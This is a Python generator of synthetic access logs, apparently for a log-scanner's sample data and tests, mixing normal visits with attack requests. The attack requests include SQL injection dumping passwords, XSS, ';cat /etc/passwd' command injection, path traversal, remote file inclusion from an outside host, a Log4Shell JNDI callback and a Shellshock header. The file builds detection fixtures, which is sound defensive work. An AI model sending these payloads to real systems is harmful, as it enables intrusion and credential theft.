"""Synthetic web traffic: the bundled sample log, benchmark input and test fixtures.

Made here from scratch (no third-party payload lists), deterministic for a seed: a
small site's ordinary visitors plus the attacks an iLogScanner user expects to see,
some of which "succeed" (an unusual 200, a 500 right after an injection).
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

from renkei.logs.read import clf_time

JST = timezone(timedelta(hours=9))
BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/124.0 Safari/537.36")
AGENTS = (
    BROWSER,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
PAGES = {  # path -> usual response size
    "/": 5120, "/index.html": 5120, "/about/": 3300, "/news/": 7400, "/contact/": 2900,
    "/products/list.php?page=2": 8800, "/products/item.php?id=42": 6100,
    "/search?q=select+a+union+job": 4300, "/search?q=O%27Reilly+books": 4250,
    "/search?q=drop+in+centre": 4200, "/news/2015/%E3%82%BB%E3%82%AD%E3%83%A5%E3%83%AA%E3%83%86%E3%82%A3": 6900,
    "/static/app.min.js?v=3.2.1": 48211, "/static/site.css": 15002, "/img/logo.png": 7310,
    "/api/v1/items?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk": 950,
}
ATTACKS = (  # (target, user agent or None, status, size or None for the page's usual)
    ("/products/item.php?id=42%27%20UNION%20SELECT%20user,password%20FROM%20users--", None, 200, 19876),
    ("/products/item.php?id=42%2527%2520or%25201%253D1--", None, 500, 612),
    ("/products/item.php?id=42/**/UnIoN/**/SeLeCt/**/1,2,3", "sqlmap/1.8#stable (https://sqlmap.org)", 200, None),
    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, 200, None),
    ("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", None, 200, None),
    ("/cgi-bin/status.cgi?host=127.0.0.1%3Bcat%20/etc/passwd", None, 200, 2410),
    ("/download.php?file=../../../../etc/passwd", None, 200, 2410),
    ("/download.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini", None, 404, 210),
    ("/index.php?page=http://198.51.100.7/shell.txt?", None, 200, None),
    ("/index.php?page=php://filter/convert.base64-encode/resource=index", None, 200, 9811),
    ("/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D", "${jndi:ldap://203.0.113.9:1389/a}", 400, 150),
    ("/cgi-bin/test.cgi", "() { :; }; /bin/bash -c 'id'", 403, 199),
    ("/search?q=%7B%7B7*7%7D%7D", None, 200, None),
    ("/.env", None, 200, 812),
    ("/.git/config", None, 404, 209),
    ("/wp-config.php.bak", None, 404, 209),
    ("/phpmyadmin/index.php", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", 404, 209),
)


WORDS = ("security", "union", "select", "jobs", "drop", "centre", "order", "by", "price",
         "O'Brien", "東京", "script", "update", "news", "from", "where", "table", "tokyo")


def _benign_target(rng: random.Random, pages: list[str]) -> tuple[str, int]:
    """A varied but ordinary request, with the size such a page usually has."""
    roll = rng.random()
    if roll < 0.4:
        path = pages[rng.randrange(len(pages))]
        return path, PAGES[path] + rng.randint(-40, 40)
    if roll < 0.65:
        return f"/products/item.php?id={rng.randint(1, 50_000)}", 6100 + rng.randint(-40, 40)
    if roll < 0.75:
        words = "+".join(quote(rng.choice(WORDS)) for _ in range(rng.randint(1, 3)))
        return f"/search?q={words}&page={rng.randint(1, 9)}", 4300 + rng.randint(-200, 200)
    if roll < 0.9:
        return f"/static/chunk-{rng.getrandbits(32):08x}.js", 20_000 + rng.randint(0, 500)
    return (f"/news/{rng.randint(2010, 2015)}/{rng.randint(1, 12):02d}/article-{rng.randint(1, 9999)}",
            7400 + rng.randint(-300, 300))


def _line(src: str, when: datetime, method: str, target: str, status: int, size: int,
          referer: str, agent: str) -> str:
    return (f'{src} - - [{clf_time(when)}] "{method} {target} HTTP/1.1" {status} {size} '
            f'"{referer}" "{agent}"\n')


def generate(lines: int, *, seed: int = 2015, attack_ratio: float = 0.03,
             start: datetime | None = None) -> Iterator[str]:
    """Yield ``lines`` combined-format lines, in time order."""
    rng = random.Random(seed)
    when = start or datetime(2015, 10, 1, 9, 0, tzinfo=JST)
    pages = list(PAGES)
    brute_left = crawl_left = 0
    brute_src = ""
    emitted = 0
    while emitted < lines:
        when += timedelta(milliseconds=rng.randint(1, 400))
        roll = rng.random()
        if emitted == lines // 3:
            brute_left, brute_src = 40, "198.51.100.23"
        if emitted == 2 * lines // 3:
            crawl_left = 60
        if crawl_left:
            crawl_left -= 1
            yield _line("192.0.2.66", when, "GET", f"/old{crawl_left}/", 404, 209, "-", BROWSER)
        elif brute_left:
            brute_left -= 1
            status = 302 if brute_left == 0 else 200
            yield _line(brute_src, when, "POST", "/wp-login.php", status, 3200 if status == 200 else 0,
                        "-", "python-requests/2.31")
        elif roll < attack_ratio:
            target, agent, status, size = ATTACKS[rng.randrange(len(ATTACKS))]
            src = f"203.0.113.{rng.randint(1, 40)}"
            usual = PAGES.get(target.split("?")[0] + "?id=42", 5000)
            yield _line(src, when, "GET", target, status, size if size is not None else usual,
                        "-", agent or BROWSER)
        elif roll < attack_ratio + 0.0005:
            brute_left = 40
            brute_src = f"198.51.100.{rng.randint(1, 250)}"
            continue
        else:
            path, size = _benign_target(rng, pages)
            status = 200 if rng.random() > 0.01 else 304
            visitor = min(int(rng.paretovariate(1.2)), 40_000)
            src = f"{10 + visitor % 190}.{visitor // 190 % 256}.{visitor * 7 % 256}.{visitor % 250 + 1}"
            referer = "https://www.example.jp/" + (path.split("?")[0][1:] if rng.random() < 0.3 else "")
            agent = AGENTS[visitor % len(AGENTS)].replace("124.0", f"{100 + visitor % 25}.0.{visitor % 997}")
            yield _line(src, when, "GET", path, status, size, referer, agent)
        emitted += 1
